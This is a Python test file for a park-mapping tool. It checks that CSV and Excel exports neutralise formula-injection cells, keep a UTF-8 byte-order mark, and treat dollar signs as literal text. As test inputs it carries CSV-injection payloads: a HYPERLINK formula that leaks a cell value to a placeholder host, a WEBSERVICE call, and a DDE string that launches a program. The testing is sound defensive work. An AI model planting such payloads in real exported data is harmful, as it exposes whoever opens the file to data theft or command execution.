"""No CSV or XLSX output holds a cell a spreadsheet would evaluate, and Excel reads the CSVs.

OWASP's rule for CSV injection: a text cell that starts with ``=``, ``+``, ``-``, ``@``, tab or
carriage return is written with a leading ``'``; numbers stay numbers. CSVs carry a UTF-8
byte-order mark, without which Excel on Chinese Windows reads them as GBK (mojibake).
"""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook

from parkmap import pipeline
from parkmap.export.tables import save_parks_tables
from parkmap.read import bundled_path
from parkmap.settings import BuildOptions, InputOptions
from parkmap.write import FORMULA_STARTS, neutralise_text, save_table_csv, spreadsheet_safe

HOSTILE_PARKS = {
    "pingdu-nancun": '=HYPERLINK("http://example.invalid/?d="&A1,"点我")',
    "laixi-jiangshan": "@SUM(1+1)",
    "qingwei-airport-zone": "-2+3",
    "pingdu-edz": "+86 532 园区",
    "laixi-edz": "\x07莱西\x1b经济开发区",
}


@pytest.mark.parametrize(
    ("given", "written"),
    [
        ("=1+1", "'=1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("-2+3", "'-2+3"),
        ("+86 532", "'+86 532"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("-12.5", "-12.5"),  # a number stays a number
        ("+3", "+3"),
        ("-1e5", "-1e5"),
        ("平度=南村", "平度=南村"),  # only the first character counts
        ("", ""),
    ],
)
def test_neutralise_text(given, written):
    assert neutralise_text(given) == written


def test_only_text_columns_change():
    frame = pd.DataFrame({"name": ["=x", "ok"], "n": [-1.5, 2.0], "k": [-3, 4]})
    safe = spreadsheet_safe(frame)
    assert safe["name"].tolist() == ["'=x", "ok"]
    assert safe["n"].tolist() == [-1.5, 2.0]
    assert safe["k"].tolist() == [-3, 4]


def _hostile_inputs(folder: Path) -> tuple[Path, Path]:
    layer = json.loads(bundled_path("parks.geojson").read_text(encoding="utf-8"))
    for feature in layer["features"]:
        props = feature["properties"]
        props["name_zh"] = HOSTILE_PARKS[props["park_id"]]
    parks = folder / "parks.geojson"
    parks.write_text(json.dumps(layer, ensure_ascii=False), encoding="utf-8")
    projects = pd.read_csv(bundled_path("projects.csv"), dtype=str, keep_default_na=False)
    projects.loc[0, "name"] = '=WEBSERVICE("http://example.invalid")'
    projects.loc[1, "name"] = "@cmd"
    projects.loc[2, "lon"] = ""  # rejected, and its name goes to rejected.csv
    projects.loc[2, "name"] = "+cmd|' /C calc'!A0"
    records = folder / "projects.csv"
    projects.to_csv(records, index=False)
    return records, parks


def _assert_no_formula_cells(path: Path) -> list[list[str]]:
    raw = path.read_bytes()
    assert raw.startswith("\ufeff".encode()), f"{path.name} has no byte-order mark"
    with path.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    for row in rows:
        for cell in row:
            if cell.startswith(FORMULA_STARTS):
                float(cell)  # only plain numbers may start with + or -
    return rows


@pytest.fixture(scope="module")
def hostile_build(tmp_path_factory):
    folder = tmp_path_factory.mktemp("hostile")
    records, parks = _hostile_inputs(folder)
    options = BuildOptions(inputs=InputOptions(projects=records, parks=(parks,)), out=folder / "o")
    analysis, written = pipeline.build(options)
    return analysis, written, folder


def test_build_csvs_hold_no_formula(hostile_build):
    _, written, _ = hostile_build
    parks = _assert_no_formula_cells(written["parks"])
    names = {row[0]: row[1] for row in parks[1:]}
    assert names["pingdu-nancun"] == "'" + HOSTILE_PARKS["pingdu-nancun"]
    assert names["pingdu-edz"] == "'+86 532 园区"
    rejected = _assert_no_formula_cells(written["rejected"])
    assert [row[4] for row in rejected[1:]] == ["'+cmd|' /C calc'!A0"]


def test_numbers_stay_numbers_in_parks_csv(hostile_build):
    analysis, written, _ = hostile_build
    table = pd.read_csv(written["parks"], encoding="utf-8-sig")
    assert table["area_km2"].dtype.kind == "f"
    assert table["projects"].dtype.kind == "i"
    assert table["projects"].sum() == analysis.parks["projects"].sum()


def test_workbook_holds_text_not_formulas(hostile_build, tmp_path):
    analysis, _, _ = hostile_build
    files = save_parks_tables(analysis.parks, tmp_path, "zh")
    _assert_no_formula_cells(files["parks_csv"])
    book = load_workbook(files["parks_xlsx"])
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    assert not cell.value.startswith(FORMULA_STARTS), cell.value
    assert "'" + HOSTILE_PARKS["laixi-jiangshan"] in texts
    # the control characters are gone, the name is kept
    assert "莱西经济开发区" in texts


def test_cluster_table_is_safe_too(tmp_path):
    table = pd.DataFrame({"cluster": [1], "dominant_industry": ["=cmd"], "projects": [-0]})
    _assert_no_formula_cells(save_table_csv(table, tmp_path / "clusters.csv"))


def test_dollar_signs_are_text_in_every_sheet_and_plot(tmp_path):
    """``$`` never starts matplotlib's mathtext: ``US$5 and US$10`` prints as written and an
    unbalanced ``$\\frac{1$`` in a park name neither crashes the export nor the plots."""
    import pdfplumber

    from parkmap.cluster import cluster_analysis
    from parkmap.cluster.report import write_cluster_report
    from parkmap.settings import ExportOptions

    layer = json.loads(bundled_path("parks.geojson").read_text(encoding="utf-8"))
    layer["features"][0]["properties"]["name_zh"] = "$\\frac{1$ 园区"
    parks = tmp_path / "parks.geojson"
    parks.write_text(json.dumps(layer, ensure_ascii=False), encoding="utf-8")
    inputs = InputOptions(parks=(parks,))
    title = "US$5 and US$10"
    outcome = pipeline.export(
        ExportOptions(inputs=inputs, out=tmp_path / "x", formats="pdf", title=title)
    )
    with pdfplumber.open(outcome.files["atlas"]) as pdf:
        text = "".join(page.extract_text() or "" for page in pdf.pages)
    assert title in text
    assert "frac{1" in text
    analysis = outcome.analysis
    result = cluster_analysis(analysis.projects, analysis.parks, permutations=9, simulations=9)
    written = write_cluster_report(result, tmp_path / "c", lang="zh")
    assert any(name.startswith("plot_") for name in written)
